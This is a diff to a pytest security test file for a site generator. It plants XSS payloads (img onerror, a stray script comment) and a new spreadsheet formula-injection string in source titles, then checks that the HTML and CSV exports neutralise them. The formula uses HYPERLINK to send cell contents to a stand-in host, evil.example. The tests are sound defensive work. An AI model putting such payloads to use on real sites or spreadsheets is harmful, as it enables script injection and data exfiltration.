@@ -11,6 +11,8 @@ title, an actor name, a glossary expansion and a source title.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 from html.parser import HTMLParser
@@ -25,6 +27,7 @@ pytest_plugins = ["tests.browser_support"]
 TAG = "<img src=x onerror=alert(1)>"
 ENTITIES = "&lt;img src=x onerror=alert(1)&gt;"
 COMMENT = "<!--<script>"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "Soviet arms embargo")'
 
 #: (file, the line as in tests/fixtures/knowledge or sources/catalog.yml, its hostile version)
 MUTATIONS = [
@@ -39,6 +42,7 @@ MUTATIONS = [
     ("sources/periods.yml", "    title: Early contacts", f"    title: 'Early {TAG} contacts'"),
     ("sources/actors.yml", "    name: Soviet Union", f"    name: 'Soviet {COMMENT} Union'"),
     ("sources/glossary.yml", "    expansion: United Nations", f"    expansion: 'United {TAG} Nations'"),
+    ("sources/events.yml", "    title: Soviet arms embargo", f"    title: '{FORMULA}'"),
 ]
 
 
@@ -163,3 +167,15 @@ def test_no_script_runs_in_chromium(hostile_site, browser):
         server.server_close()
         thread.join(timeout=5)
     assert not dialogs, dialogs
+
+
+@pytest.mark.slow
+def test_csv_export_neutralizes_formulas(hostile_site):
+    """A cell starting with = + - @ is a formula to a spreadsheet: the
+    export prefixes it with an apostrophe (shown, not evaluated)."""
+    rows = list(csv.DictReader(io.StringIO((hostile_site / "data" / "events.csv").read_text("utf-8"))))
+    titles = [row["title"] for row in rows]
+    assert "'" + FORMULA in titles
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
+    events = json.loads((hostile_site / "data" / "events.json").read_text("utf-8"))
+    assert FORMULA in [event["title"] for event in events], "the JSON export keeps the title as typed"
